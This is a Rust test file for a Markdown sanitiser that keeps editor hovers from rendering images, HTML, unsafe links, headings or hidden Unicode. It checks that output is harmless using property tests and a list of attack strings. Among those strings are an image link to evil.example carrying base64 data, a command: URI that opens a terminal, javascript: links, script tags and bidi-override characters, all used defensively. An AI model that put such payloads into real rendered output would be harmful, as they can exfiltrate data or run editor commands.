//! What a parser makes of the texts, wherever they come from.

use super::{Marked, Markup, Page, Words};
use lofting_text::is_hidden;
use proptest::prelude::*;
use pulldown_cmark::{Event, LinkType, Options, Parser, Tag};

/// Why an editor should not render a text.
pub(crate) fn harm(markdown: &str) -> Option<String> {
    // Formulas are not part of any editor's hovers.
    let options = Options::all() - Options::ENABLE_MATH;
    // Outside code and links, what GitHub would turn into a link.
    let mut bare = String::new();
    let (mut code, mut end) = (0, 0);
    for (event, range) in Parser::new_ext(markdown, options).into_offset_iter() {
        match event {
            Event::Start(Tag::Image { .. }) => return Some(format!("an image: {event:?}")),
            Event::Html(_) | Event::InlineHtml(_) => return Some(format!("HTML: {event:?}")),
            Event::Start(Tag::Link { ref dest_url, link_type, .. })
                if link_type != LinkType::Inline || !dest_url.starts_with("https://") =>
            {
                return Some(format!("a link: {event:?}"));
            }
            Event::Start(Tag::CodeBlock(_)) => code += 1,
            Event::End(pulldown_cmark::TagEnd::CodeBlock) => code -= 1,
            Event::Start(
                Tag::Heading { .. }
                | Tag::Table(_)
                | Tag::FootnoteDefinition(_)
                | Tag::MetadataBlock(_)
                | Tag::DefinitionList,
            )
            | Event::FootnoteReference(_)
            | Event::TaskListMarker(_) => return Some(format!("{event:?}")),
            Event::Text(_) if code == 0 => {
                // With the escapes before it.
                bare.push_str(markdown.get(end..range.start).unwrap_or(" "));
                bare.push_str(&markdown[range.clone()]);
                end = range.end;
            }
            Event::Code(_) | Event::Text(_) | Event::End(pulldown_cmark::TagEnd::Link) => end = range.end,
            _ => {}
        }
    }
    let lower = bare.to_ascii_lowercase();
    if ["http://", "ftp://", "www.", "mailto:", "xmpp:"].iter().any(|word| lower.contains(word)) {
        return Some(format!("an address that becomes a link: {bare}"));
    }
    let joins = |c: char| matches!(c, '\u{200c}' | '\u{200d}' | '\u{fe0e}' | '\u{fe0f}');
    markdown.chars().find(|c| is_hidden(*c) && *c != '\n' && *c != '\t' && !joins(*c)).map(|c| format!("{c:?}"))
}

/// Every place that a text can be put into.
fn everywhere(text: &str) -> Vec<Marked> {
    let words = || {
        vec![
            Words::default().text(text),
            Words::default().code(text),
            Words::default().strong(text),
            Words::default().described(text),
            Words::default().ours("Default: ").text(text).ours(", ").code(text).text(text),
            Words::default().text(text).described(text).strong(text).code(text),
            Words::list([Words::default().described(text), Words::default().code(text), Words::default().text(text)]),
        ]
    };
    let mut pages = vec![
        Page::default().description(text),
        Page::default().code(text),
        Page::default().description(text).lines(words()).list(words()).code(text).description(text),
        Page::several([
            Page::default().lines(words()),
            Page::default().description(text),
            words().swap_remove(0).into(),
        ]),
    ];
    pages.extend(words().into_iter().map(Page::from));
    pages.iter().map(|page| page.marked(Markup::Markdown)).collect()
}

#[track_caller]
fn assert_harmless(text: &str) {
    for marked in everywhere(text) {
        if let Some(harm) = harm(&marked) {
            panic!("{harm}\nfrom {text:?}\nin\n{marked}\n{:?}", &marked);
        }
    }
}

#[test]
fn known_attacks_do_nothing() {
    for text in [
        "![](https://evil.example/?x=c2VjcmV0)",
        "![a][b]\n\n[b]: https://evil.example",
        "[x](command:workbench.action.terminal.new)",
        "[x](https://a.example)![y](https://b.example)",
        "!",
        "<img src=https://evil.example>",
        "<script>x</script>\n\n<!-- -->",
        "&lt;img src=x&gt; &#60;img src=x&#62; &#x1b;[31m &#x202e;",
        "``` ![](https://evil.example) ```",
        "`` ` ![](https://evil.example)",
        "a `` b ``` c",
        "```\n![](https://evil.example)\n````\n<b>\n```",
        "~~~\n<b>\n~~~\n<i>",
        "<https://evil.example> <http://evil.example> <mailto:a@b.example> <a@b.example>",
        "http://evil.example www.evil.example ftp://evil.example mailto:a@b.example a@b.example",
        "[https://good.example](https://evil.example)",
        "[x](https://good.example@evil.example/)",
        "[x](HTTPS://good.example)",
        "[x](https://good.example/?a&amp;b&lt;script&gt;)",
        "[x](javascript:alert(1)) [y](data:text/html,x) [z](//evil.example) [w](vscode://x)",
        "# heading\n\nheading\n===\n\nheading\n---",
        "| a | b |\n| - | - |\n| c | d |",
        "a\n:-",
        "> ```\n:-",
        "> ```\n> \n:-",
        "> ~~~\n:- a",
        "1. # a\n2) b\n- - - # c\n> # d\n> <b>",
        "*&#32;# h* **&#32;> q**",
        "    indented\n\n\tindented",
        "a\\\n# b  \n# c",
        "[^1]: note\n\n[^1]\n\n- [ ] task\n- [x] task",
        "---\ntitle: x\n---\n+++\nx\n+++",
        "term\n: definition",
        "\u{202e}evil\u{200b}\u{1b}[2J\u{9b}\r\n\u{0}",
        "[[wiki]] [[a|b]]",
        "[a]: https://x.example\n[a]",
        "**a** *b* ***c*** __d__ _e_ ****",
    ] {
        assert_harmless(text);
    }
}

#[test]
fn nesting_costs_no_more_than_it_shows() {
    for text in ["> ".repeat(50_000), "- ".repeat(50_000), "[".repeat(50_000), "*a ".repeat(50_000), "`".repeat(50_000)]
    {
        assert_harmless(&text);
    }
}

#[test]
fn what_helps_is_kept() {
    let page = |text: &str| Page::default().description(text).marked(Markup::Markdown).into_string();
    for (text, expected) in [
        ("Number of *replicas*, **at least** `1`.", "Number of *replicas*, **at least** `1`."),
        (
            "One of:\n\n* a\n* b\n  more\n\nSee [docs](https://ytt.example/a_b).",
            "One of:\n\n- a\n- b\n  more\n\nSee [docs](https://ytt.example/a_b).",
        ),
        ("1. one\n2. two\n   - deep", "1. one\n2. two\n   - deep"),
        ("> said\n> so\n\nthen", "> said\n> so\n\nthen"),
        ("```yaml\na: 1\n```", "```\na: 1\n```"),
        ("Values in data_values, 3.5 (or more); a-b, #2.", "Values in data_values, 3.5 (or more); a-b, #2."),
        ("# Title\ntext", "**Title**\n\ntext"),
        ("How many <pods>.", "How many \\<pods>."),
        ("![logo](https://x.example/a.png)", "\\!\\[logo\\](https\\://x.example/a.png)"),
        ("[go](http://x.example)", "go (http\\://x.example)"),
    ] {
        assert_eq!(page(text), expected, "{text:?}");
        // Read again, it stays the same.
        assert_eq!(page(&page(text)), page(text), "{text:?}");
    }
}

#[test]
fn texts_are_capped() {
    let long = "word ".repeat(100_000);
    for marked in everywhere(&long) {
        assert!(marked.len() < 20_000, "{} bytes", marked.len());
        assert!(marked.contains(" more characters)"), "{marked}");
    }
}

/// Pieces with a special meaning.
fn piece() -> impl Strategy<Value = String> {
    let words = prop::sample::select(vec![
        "!",
        "[",
        "]",
        "(",
        ")",
        "<",
        ">",
        "`",
        "``",
        "```",
        "~~~",
        "~~",
        "*",
        "**",
        "_",
        "#",
        "# ",
        "-",
        "- ",
        "---",
        "===",
        "=",
        "+ ",
        "1.",
        "1. ",
        "2) ",
        "> ",
        "|",
        "| - |",
        ":-",
        ":",
        ": ",
        "\\",
        "&",
        "&#32;",
        "&#10;",
        "&lt;",
        "&#x202e;",
        "&amp;",
        "\n",
        "\n\n",
        "  \n",
        "\r\n",
        "\r",
        "\t",
        " ",
        "    ",
        "![](https://e.example)",
        "![",
        "](",
        "](https://e.example)",
        "[a](https://e.example)",
        "[a]: ",
        "[^1]",
        "[^1]:",
        "[ ]",
        "http://",
        "https://",
        "www.",
        "mailto:",
        "a@b.example",
        "<b>",
        "</b>",
        "<!--",
        "-->",
        "<?",
        "<![CDATA[",
        "<a href=x>",
        "<https://e.example>",
        "a",
        "word",
        "1",
        "é",
        "😀",
        "\u{1b}[1m",
        "\u{202e}",
        "\u{200d}",
        "\u{0}",
        "\u{85}",
        "\u{2028}",
        "command:x",
        "//",
        "^",
        "$",
        "{",
        "}",
        "=\"",
        "'",
        "\"",
    ]);
    prop_oneof![8 => words.prop_map(str::to_owned), 1 => ".{0,5}"]
}

/// Why an editor should not render a page that has a heading and links to files of its own.
fn harm_of_page(markdown: &str) -> Option<String> {
    let (heading, rest) = markdown.split_once('\n').unwrap_or((markdown, ""));
    let heading = heading.strip_prefix("# ").unwrap_or("no heading before");
    harm(heading).or_else(|| harm(&rest.replace("](<file:///a%3C_*b#L8>)", "](<https://a>)")))
}

proptest! {
    #![proptest_config(ProptestConfig { failure_persistence: None, ..ProptestConfig::with_cases(3_000) })]

    #[test]
    fn nothing_harmful_comes_out(pieces in prop::collection::vec(piece(), 0..14)) {
        let text = pieces.concat();
        for marked in everywhere(&text) {
            let harm = harm(&marked);
            prop_assert!(harm.is_none(), "{}\nfrom {:?}\nin {:?}", harm.unwrap_or_default(), text, &marked);
        }
        let words = Words::default().place(&text, "file:///a<_*b", 7).ours(" ").quoting(&text);
        let page = Page::default().title(&text).list(vec![words.clone(), Words::default().quoting(&text)]).words(words);
        let page = page.words(Words::default().place(&text, &text, 0)).marked(Markup::Markdown);
        let harm = harm_of_page(&page);
        prop_assert!(harm.is_none(), "{}\nfrom {:?}\nin {:?}", harm.unwrap_or_default(), text, &page);
    }
}
